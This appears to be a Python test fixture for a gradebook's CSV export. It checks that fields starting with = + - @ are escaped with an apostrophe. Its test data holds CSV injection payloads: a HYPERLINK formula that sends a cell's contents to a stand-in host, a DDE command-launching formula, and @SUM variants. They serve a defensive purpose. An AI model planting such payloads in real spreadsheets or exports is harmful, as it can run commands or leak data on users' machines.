"""Spreadsheet formulas in the gradebook: a student folder named like a formula and exception type names
that start with = + - @ (the message starts with them): every such field gets a leading apostrophe in
the CSV (OWASP), so a spreadsheet shows text, never runs it."""

NOTEBOOK = "08_schedules"
STUDENT = '=HYPERLINK("evil.example?x="&A1,"grades")'  # a folder name: no slash
CELLS = {
    "time_decay": """
class Boom(Exception):
    pass

Boom.__name__ = "=cmd|' /C calc'!A0"
raise Boom("-2+3")
""",
    "step_lr": """
class Minus(Exception):
    pass

Minus.__name__ = "-1+@SUM(A1:A9)"

def step_lr(lr0, gamma, step_size, n):
    raise Minus("+ tab\\t and \\r")
""",
    "train_sgd": """
class At(Exception):
    pass

At.__name__ = "@SUM(1+1)*cmd"
raise At("x")
""",
}
EXPECT = {"time_decay": "zero", "step_lr": "zero", "train_sgd": "zero"}
IN_MESSAGE = {"time_decay": "'=cmd|", "train_sgd": "'@SUM"}
